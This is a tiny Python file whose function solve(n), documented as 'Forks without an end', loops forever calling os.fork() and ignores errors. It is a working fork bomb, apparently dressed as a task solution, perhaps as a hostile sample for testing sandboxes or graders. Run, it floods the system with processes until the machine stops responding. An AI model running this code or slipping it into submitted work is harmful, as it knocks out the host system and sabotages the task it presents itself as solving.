"""Forks without an end."""

import os


def solve(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
